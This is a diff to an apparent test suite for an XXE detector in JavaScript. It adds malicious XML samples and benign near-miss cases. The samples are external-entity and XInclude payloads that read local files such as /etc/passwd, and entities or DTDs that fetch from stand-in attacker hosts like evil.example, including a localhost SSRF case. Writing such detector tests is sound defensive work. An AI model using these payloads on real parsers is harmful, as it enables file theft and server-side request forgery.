@@ -112,10 +112,17 @@ describe('xxe', () => {
     '<!DOCTYPE a [\n<!ENTITY x\nSYSTEM\n"file:///c:/boot.ini">]><a>&x;</a>',
     '<soap:Envelope><!DOCTYPE d [<!ENTITY x SYSTEM "ftp://evil.example/">]><soap:Body>&x;</soap:Body></soap:Envelope>',
     '<!DOCTYPE a SYSTEM "gopher://evil.example/1"><a/>',
-    '<!DOCTYPE a [<!ENTITY % p "q">]><a/>',
+    '<!DOCTYPE a [<!ENTITY % p "q"> %p;]><a/>',
+    '<!DOCTYPE a PUBLIC "-//A//B//EN" "http://evil.example/a"><a>&send;</a>',
+    '<!DOCTYPE a PUBLIC "-//OASIS//DTD X//EN" "http://192.0.2.7/a.dtd"><a/>',
+    '<!DOCTYPE order SYSTEM "http://127.0.0.1/v1/order/order.dtd"><order/>',
+    '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="/etc/passwd"/></a>',
   ];
   const nearMisses = [
     '<a/>',
+    '<!DOCTYPE a [<!ENTITY % draft "INCLUDE">]><a/>',
+    '<!DOCTYPE cXML SYSTEM "http://xml.standard.example/schemas/cXML/1.2/cXML.dtd"><cXML/>',
+    '<!DOCTYPE map PUBLIC "-//Owner/Owner Mapping DTD 3.0//EN" "http://www.owner.example/dtd/map-3.0.dtd"><map/>',
     '<!DOCTYPE html><html><body>x</body></html>',
     '<!DOCTYPE note SYSTEM "Note.dtd"><note/>',
     '<!DOCTYPE a [<!ELEMENT a (#PCDATA)>]><a>x</a>',
